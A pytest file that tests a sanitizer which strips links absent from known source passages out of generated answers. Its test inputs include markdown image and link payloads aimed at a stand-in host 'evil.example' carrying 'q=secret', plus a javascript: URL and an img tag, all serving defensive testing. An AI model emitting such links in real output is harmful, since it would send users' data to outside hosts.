from __future__ import annotations

import pytest

from collections_app.answering.links import REMOVED, remove_foreign_links

KNOWN = "Read https://docs.example.com/guide and /reference."


@pytest.mark.parametrize(
    ("prose", "expected"),
    [
        ("![logo](http://evil.example/?q=secret)", "logo"),
        ("![logo][ref]", "logo"),
        ("[here](http://evil.example/a)", "here"),
        ("[here](<http://evil.example/a> 'title')", "here"),
        ("[1](http://evil.example/a)", "[1]"),
        ("See http://evil.example/a.", f"See {REMOVED}"),
        ("<http://evil.example/a>", f"<{REMOVED}>"),
        ("[ref]: http://evil.example/a\nText", "Text"),
        ('<img src="http://evil.example/a">Text', "Text"),
        ("[run](javascript:alert%281%29)", "run"),
        ("https://docs.example.com/guide?q=secret", REMOVED),
    ],
)
def test_what_no_passage_holds_goes(prose: str, expected: str) -> None:
    assert remove_foreign_links(prose, KNOWN) == expected


@pytest.mark.parametrize(
    "prose",
    [
        "[guide](https://docs.example.com/guide)",
        "<https://docs.example.com/guide>.",
        "[it](/reference)",
        "a < b and c > d",
        "x[0]",
    ],
)
def test_what_a_passage_holds_stays(prose: str) -> None:
    assert remove_foreign_links(prose, KNOWN) == prose
